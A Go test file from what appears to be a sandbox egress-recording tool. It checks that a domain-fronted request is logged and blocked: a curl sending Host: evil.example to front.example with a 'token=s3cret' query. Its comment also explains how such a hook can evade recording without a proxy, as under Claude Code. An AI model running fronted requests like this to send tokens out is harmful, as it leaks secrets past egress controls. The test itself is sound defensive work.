package escape

import (
	"encoding/json"
	"fmt"
	"testing"
)

// TestRedteam26HostHeaderSiteIsNamed: in record mode a hook's curl that
// sends front.example a request for the site evil.example (curl -H 'Host:
// evil.example' http://front.example/p: domain fronting, which a CDN that
// serves both from one address answers as evil.example) goes to the
// recording proxy as GET http://front.example/p with that Host header.
// Without a proxy, as under Claude Code, it reaches evil.example's site,
// and the record named front.example alone. Now evil.example is an entry
// of its own beside front.example's, for every caller.
func TestRedteam26HostHeaderSiteIsNamed(t *testing.T) {
	requireBwrap(t)
	requireTools(t, "curl")
	for _, r := range runners(t) {
		t.Run(r.name, func(t *testing.T) {
			dir := workTree(t)
			res := vigiles(t, r, dir, nil, "--egress", "record", "--", "curl", "-s", "-m", "5",
				"-H", "Host: evil.example", "http://front.example/p?token=s3cret")
			var got struct {
				Egress []egressEntry `json:"egress"`
			}
			if err := json.Unmarshal([]byte(res.raw), &got); err != nil {
				t.Fatal(err)
			}
			want := map[string]string{
				"front.example 80": "GET /p",
				"evil.example 80":  "GET /p (asked for by its Host header of a request sent to front.example port 80)",
			}
			for _, e := range got.Egress {
				if e.Via != "proxy" {
					continue
				}
				k := fmt.Sprintf("%s %d", e.Host, e.Port)
				d, ok := want[k]
				if !ok {
					t.Errorf("unexpected proxy entry %+v", e)
					continue
				}
				if e.Detail != d || e.Attempts != 1 || e.Allowed {
					t.Errorf("%s: %+v, want detail %q, 1 attempt, not allowed", k, e, d)
				}
				delete(want, k)
			}
			for k := range want {
				t.Errorf("no proxy entry for %s in %+v", k, got.Egress)
			}
		})
	}
}
